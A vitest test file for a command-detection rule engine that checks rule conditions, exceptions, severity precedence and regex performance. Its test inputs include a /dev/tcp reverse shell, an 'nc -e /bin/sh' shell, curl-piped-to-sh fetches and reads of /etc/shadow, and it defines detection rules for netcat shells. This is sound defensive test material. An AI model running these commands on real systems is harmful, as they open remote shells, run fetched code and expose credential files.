import { describe, expect, it } from 'vitest';
import { MAX_REGEX_INPUT } from '../../src/detect/compile-rules.js';
import { loadDefaultRules, parseRules } from '../../src/detect/load-rules.js';
import { makeEvent, shellEvent } from './make-event.js';

/** A one-rule file around a match block given as YAML lines. */
function oneRule(matchYaml: string, extra = ''): string {
  return `rules:\n  - id: r1\n    name: Rule one\n    severity: high\n${extra}    match:\n${matchYaml}`;
}

function hits(yaml: string, event = makeEvent('cat /etc/shadow')): string[] {
  return parseRules(yaml, 'rules.yml').matchAll(event).map((hit) => hit.ruleId);
}

describe('rule conditions', () => {
  it('argv0 compares the basename of argv[0] and of exe', () => {
    const yaml = oneRule('      argv0: [cat]\n');
    expect(hits(yaml, makeEvent('/usr/bin/cat x'))).toEqual(['r1']);
    expect(hits(yaml, makeEvent('./runner x', { exe: '/bin/cat' }))).toEqual(['r1']);
    expect(hits(yaml, makeEvent('concat x'))).toEqual([]);
    expect(hits(oneRule('      argv0: [bash]\n'), makeEvent('-bash'))).toEqual(['r1']);
  });

  it('exe matches the full path with globs, falling back to an absolute argv[0]', () => {
    const yaml = oneRule("      exe: ['/usr/bin/nc', '/tmp/*']\n");
    expect(hits(yaml, makeEvent('nc -l', { exe: '/usr/bin/nc' }))).toEqual(['r1']);
    expect(hits(yaml, makeEvent('/tmp/a/b/payload'))).toEqual(['r1']);
    expect(hits(yaml, makeEvent('nc -l', { exe: '/usr/local/bin/nc' }))).toEqual([]);
    expect(hits(yaml, makeEvent('payload'))).toEqual([]);
  });

  it('any_arg is exact equality on arguments after argv[0]', () => {
    const yaml = oneRule("      any_arg: ['/etc/shadow']\n");
    expect(hits(yaml, makeEvent('cat /etc/shadow'))).toEqual(['r1']);
    expect(hits(yaml, makeEvent('cat /etc/shadow.bak'))).toEqual([]);
    expect(hits(yaml, makeEvent(['/etc/shadow']))).toEqual([]);
  });

  it('any_arg_regex searches each argument', () => {
    const yaml = oneRule("      any_arg_regex: '^--pass'\n");
    expect(hits(yaml, makeEvent('tool -v --password=x'))).toEqual(['r1']);
    expect(hits(yaml, makeEvent('tool -v x--pass'))).toEqual([]);
  });

  it('any_arg_regex with a required literal finds it in any argument, within the regex cap only', () => {
    const yaml = oneRule("      any_arg_regex: ['etc/+g?shadow$', '^/srv/[a-z]+/key$']\n");
    expect(hits(yaml, makeEvent('cat -n /etc//gshadow'))).toEqual(['r1']);
    expect(hits(yaml, makeEvent('cat -n /srv/app/key'))).toEqual(['r1']);
    expect(hits(yaml, makeEvent('cat /etc/shadow.bak /srv/key'))).toEqual([]);
    const padded = `${'x'.repeat(MAX_REGEX_INPUT)}/etc/shadow`;
    expect(hits(oneRule("      any_arg_regex: 'shadow'\n"), makeEvent(['cat', padded]))).toEqual([]);
    expect(hits(oneRule("      any_arg_regex: 'shadow'\n"), makeEvent(['cat', padded.slice(20)]))).toEqual(['r1']);
  });

  it('command is an unanchored re2 search; a list is an OR', () => {
    const yaml = oneRule("      command: ['shad+ow', 'gshadow']\n");
    expect(hits(yaml, makeEvent('cat /etc/shadddow'))).toEqual(['r1']);
    expect(hits(yaml, makeEvent('cat /etc/gshadow'))).toEqual(['r1']);
    expect(hits(yaml, makeEvent('cat /etc/passwd'))).toEqual([]);
  });

  it('keeps inline flags scoped to their own list entry', () => {
    const yaml = oneRule("      command: ['(?i)alpha', 'beta']\n");
    expect(hits(yaml, makeEvent('x ALPHA'))).toEqual(['r1']);
    expect(hits(yaml, makeEvent('x BETA'))).toEqual([]);
  });

  it('user, run_as, host, cwd, format and sudo_denied', () => {
    const yaml = oneRule(
      "      user: [alice]\n      run_as: [root]\n      host: ['db-*']\n      cwd: ['/tmp/*']\n      format: [sudo]\n      sudo_denied: true\n",
    );
    const base = { user: 'alice', runAs: 'root', host: 'db-7', cwd: '/tmp/x/y', sourceFormat: 'sudo', sudoDenied: true };
    expect(hits(yaml, makeEvent('ls', base))).toEqual(['r1']);
    expect(hits(yaml, makeEvent('ls', { ...base, user: null }))).toEqual([]);
    expect(hits(yaml, makeEvent('ls', { ...base, runAs: 'alice' }))).toEqual([]);
    expect(hits(yaml, makeEvent('ls', { ...base, host: 'web-1' }))).toEqual([]);
    expect(hits(yaml, makeEvent('ls', { ...base, cwd: null }))).toEqual([]);
    expect(hits(yaml, makeEvent('ls', { ...base, sourceFormat: 'auditd' }))).toEqual([]);
    expect(hits(yaml, makeEvent('ls', { ...base, sudoDenied: undefined }))).toEqual([]);
    expect(hits(oneRule('      sudo_denied: false\n      argv0: [ls]\n'), makeEvent('ls'))).toEqual(['r1']);
  });

  it('requires every condition of a block (AND)', () => {
    const yaml = oneRule("      argv0: [cat]\n      any_arg: ['/etc/shadow']\n");
    expect(hits(yaml, makeEvent('cat /etc/shadow'))).toEqual(['r1']);
    expect(hits(yaml, makeEvent('less /etc/shadow'))).toEqual([]);
    expect(hits(yaml, makeEvent('cat /etc/hosts'))).toEqual([]);
  });

  it('sees the applet behind busybox', () => {
    expect(hits(oneRule('      argv0: [nc]\n'), makeEvent('busybox nc -l -p 1'))).toEqual(['r1']);
  });
});

describe('any alternatives and exceptions', () => {
  const yaml = `
rules:
  - id: nc-shell
    name: netcat shell
    severity: critical
    match: { argv0: [nc] }
    any:
      - { any_arg: ['-l'] }
      - { any_arg: ['-e'] }
    exceptions:
      - { user: [backup] }
      - { host: ['lab-*'], any_arg: ['-l'] }
`;
  const rules = parseRules(yaml, 'rules.yml');

  it('needs the match block and one of the alternatives', () => {
    expect(rules.match(makeEvent('nc -l 4444'))?.ruleId).toBe('nc-shell');
    expect(rules.match(makeEvent('nc -e /bin/sh x 1'))?.ruleId).toBe('nc-shell');
    expect(rules.match(makeEvent('nc -z x 1'))).toBeNull();
    expect(rules.match(makeEvent('ncat -l 4444'))).toBeNull();
  });

  it('suppresses a hit when any exception matches, and explains which one', () => {
    expect(rules.match(makeEvent('nc -l 4444', { user: 'backup' }))).toBeNull();
    expect(rules.matchAll(makeEvent('nc -l 4444', { host: 'lab-3' }))).toEqual([]);
    expect(rules.match(makeEvent('nc -e /bin/sh x 1', { host: 'lab-3' }))?.ruleId).toBe('nc-shell');
    expect(rules.explain(makeEvent('nc -l 4444', { host: 'lab-3' }))).toEqual([
      { rule: expect.objectContaining({ ruleId: 'nc-shell' }), suppressedBy: 1 },
    ]);
  });

  it('accepts a rule with only `any:`', () => {
    const onlyAny = parseRules('rules:\n  - id: a\n    name: A\n    severity: low\n    any:\n      - { argv0: [x] }\n      - { argv0: [y] }\n', 'r.yml');
    expect(onlyAny.match(makeEvent('y'))?.ruleId).toBe('a');
    expect(onlyAny.match(makeEvent('z'))).toBeNull();
  });
});

describe('precedence and observe mode', () => {
  const yaml = `
rules:
  - { id: low-one, name: Low, severity: low, match: { argv0: [tool] } }
  - { id: high-one, name: High, severity: high, match: { argv0: [tool] } }
  - { id: high-two, name: High too, severity: high, match: { argv0: [tool] } }
  - { id: trial, name: Trial, severity: critical, mode: observe, attack: [T1059], match: { argv0: [tool, other] } }
`;
  const rules = parseRules(yaml, 'rules.yml');

  it('returns the most severe alert rule, first in file order on ties', () => {
    expect(rules.match(makeEvent('tool'))?.ruleId).toBe('high-one');
  });

  it('lists every hit in file order', () => {
    expect(rules.matchAll(makeEvent('tool')).map((hit) => hit.ruleId)).toEqual(['low-one', 'high-one', 'high-two', 'trial']);
  });

  it('passes observe hits through with their mode, without hiding alert rules', () => {
    expect(rules.match(makeEvent('other'))).toEqual({ ruleId: 'trial', ruleName: 'Trial', severity: 'critical', attack: ['T1059'], mode: 'observe', alwaysAsk: true });
    expect(rules.match(makeEvent('tool'))?.mode).toBe('alert');
  });

  it('reports its size and specs', () => {
    expect(rules.size).toBe(4);
    expect(rules.specs.map((spec) => spec.mode)).toEqual(['alert', 'alert', 'alert', 'observe']);
  });
});

// Backtracking on these inputs would take hours; the generous bounds only catch that, never a
// slow machine (speed itself is measured by the benchmarks).
const CATASTROPHIC_MS = 15_000;

describe('a command seen again', () => {
  it('is answered as the first time, whatever else differs, and across many commands and patterns', () => {
    const yaml = [
      'rules:',
      '  - id: pipe',
      '    name: Piped to a shell',
      '    severity: high',
      '    match:',
      "      command: ['\\| *(ba)?sh\\b']",
      '      user: [alice]',
      '  - id: tcp',
      '    name: dev tcp',
      '    severity: critical',
      '    match:',
      "      command: ['/dev/tcp/', 'nc -e']",
      '  - id: fetch',
      '    name: A fetch',
      '    severity: low',
      '    match:',
      "      command: ['curl ', 'wget ']",
      '',
    ].join('\n');
    const rules = parseRules(yaml, 'rules.yml');
    const commands = ['curl -s http://x | sh', 'curl -s http://x | bash', 'wget -q http://x', 'bash -i >& /dev/tcp/10.0.0.1/4444', 'ls', 'curl | nc -e sh'];
    const fresh = (command: string, user: string) => parseRules(yaml, 'rules.yml').matchAll(makeEvent(command, { user })).map((hit) => hit.ruleId);
    for (let round = 0; round < 3; round++) {
      for (const command of commands) {
        for (const user of ['alice', 'bob']) {
          expect(rules.matchAll(makeEvent(command, { user })).map((hit) => hit.ruleId), `${command} by ${user}`).toEqual(fresh(command, user));
        }
      }
    }
    expect(rules.match(makeEvent('curl -s http://x | sh', { user: 'bob' }))?.ruleId).toBe('fetch');
    expect(rules.match(makeEvent('curl -s http://x | sh', { user: 'alice' }))?.ruleId).toBe('pipe');
  });
});

describe('linear-time matching', () => {
  it('matches a 1 MB pathological input against (a+)+$ quickly', () => {
    const rules = parseRules(oneRule("      command: '(a+)+$'\n      any_arg_regex: '^(a|aa)*b$'\n"), 'rules.yml');
    const started = performance.now();
    expect(rules.matchAll(makeEvent(['x', 'a'.repeat(1_000_000) + '!']))).toEqual([]);
    expect(rules.matchAll(makeEvent(['x', 'a'.repeat(1_000_000)]))).toEqual([]);
    expect(performance.now() - started).toBeLessThan(CATASTROPHIC_MS);
  });

  it('runs the default pack over 1 MB hostile shell arguments quickly', () => {
    const rules = loadDefaultRules();
    const noise = 'curl sock /dev/tcp/ | >& base64 -d HISTFILE= '.repeat(25_000);
    const started = performance.now();
    for (const event of [shellEvent(noise), shellEvent('x'.repeat(1_000_000)), makeEvent(['chmod', '4755', noise])]) rules.matchAll(event);
    expect(performance.now() - started).toBeLessThan(CATASTROPHIC_MS);
  });

  it(`shows regexes only the first ${MAX_REGEX_INPUT} characters, while exact conditions see everything`, () => {
    const yaml = `
rules:
  - { id: by-regex, name: R, severity: high, match: { command: 'needle' } }
  - { id: by-arg, name: A, severity: low, match: { any_arg: [needle] } }
`;
    const rules = parseRules(yaml, 'rules.yml');
    const padded = makeEvent(['x', 'p'.repeat(MAX_REGEX_INPUT), 'needle']);
    expect(rules.matchAll(padded).map((hit) => hit.ruleId)).toEqual(['by-arg']);
    expect(rules.matchAll(makeEvent('x needle')).map((hit) => hit.ruleId)).toEqual(['by-regex', 'by-arg']);
  });
});
